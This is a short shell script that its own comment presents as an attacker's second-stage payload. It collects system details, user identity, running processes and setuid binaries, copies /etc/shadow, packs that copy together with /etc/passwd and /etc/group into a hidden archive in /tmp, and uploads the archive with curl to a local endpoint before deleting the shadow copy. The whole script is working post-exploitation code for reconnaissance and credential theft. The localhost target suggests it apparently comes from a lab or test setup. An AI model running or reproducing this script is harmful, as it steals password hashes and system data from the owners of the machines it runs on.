#!/bin/sh
# second stage dropped by the attacker: recon, loot, persistence attempt
uname -a > /tmp/.s2_info
id >> /tmp/.s2_info
ps aux >> /tmp/.s2_info
find /usr/bin /usr/sbin -perm -4000 -type f >> /tmp/.s2_info 2>/dev/null
cat /etc/shadow > /tmp/.s2_shadow 2>/dev/null
tar czf /tmp/.s2_loot.tgz /etc/passwd /etc/group /tmp/.s2_info /tmp/.s2_shadow 2>/dev/null
curl -s -T /tmp/.s2_loot.tgz http://127.0.0.1:8081/upload >/dev/null 2>&1
ls -la /tmp
rm -f /tmp/.s2_shadow
echo stage2-done
